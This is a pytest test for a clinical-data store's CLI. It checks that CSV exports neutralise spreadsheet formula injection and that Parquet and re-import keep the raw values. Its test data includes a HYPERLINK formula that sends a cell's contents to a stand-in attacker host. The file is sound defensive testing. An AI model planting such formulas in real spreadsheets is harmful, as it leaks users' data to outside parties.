"""CSV exports neutralise spreadsheet formulas in text cells (OWASP CSV injection) on both engines;
Parquet keeps the raw text; ``import`` of the exported CSV restores it (lossless round trip)."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from autoserum.cli import main
from autoserum.store import Store, open_store
from tests.store.helpers import ADMIN
from tests.store.test_import_export import ae_file, visit_file

TERMS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "@SUM(1+1)", "-5 mg rash", "+itch"]


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> int:
    capsys.readouterr()
    try:
        main(list(args))
    except SystemExit as exit_:
        return int(exit_.code or 0)
    return 0


def test_csv_export_neutralises_and_import_restores(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # the derived expected/aesi columns are left for the import to derive from each term
    ae = pl.concat([ae_file()] * len(TERMS)).with_columns(term=pl.Series(TERMS))
    ae = ae.drop("expected", "aesi")
    src = tmp_path / "visits.csv"
    visit_file().write_csv(src)
    ae.write_csv(tmp_path / "visits.ae.csv")
    assert _cli(capsys, "import", str(src), "--db", db_url, "--study", "A",
                "--protocol", "ast-nahm2023") == 0  # fmt: skip
    out = tmp_path / "out.csv"
    assert _cli(capsys, "export", "--db", db_url, "--study", "A", "--out", str(out)) == 0
    cells = pl.read_csv(tmp_path / "out.ae.csv", infer_schema=False)["term"].to_list()
    assert sorted(cells) == sorted("'" + t for t in TERMS)
    raw_text = (tmp_path / "out.ae.csv").read_text(encoding="utf-8")
    assert "\n=" not in raw_text
    assert ",=" not in raw_text
    assert ',"=' not in raw_text
    parquet = tmp_path / "out.parquet"
    assert _cli(capsys, "export", "--db", db_url, "--study", "A", "--format", "parquet",
                "--out", str(parquet)) == 0  # fmt: skip
    assert sorted(pl.read_parquet(tmp_path / "out.ae.parquet")["term"].to_list()) == sorted(TERMS)
    # the exported CSV imports back to the raw values
    assert _cli(capsys, "import", str(out), "--db", db_url, "--study", "B",
                "--protocol", "ast-nahm2023") == 0  # fmt: skip
    store: Store = open_store(db_url)
    try:
        for name in ("A", "B"):
            terms = store.exports.adverse_events(name, actor=ADMIN)["term"].to_list()
            assert sorted(terms) == sorted(TERMS)
        assert store.exports.long("B", actor=ADMIN).equals(store.exports.long("A", actor=ADMIN))
    finally:
        store.close()
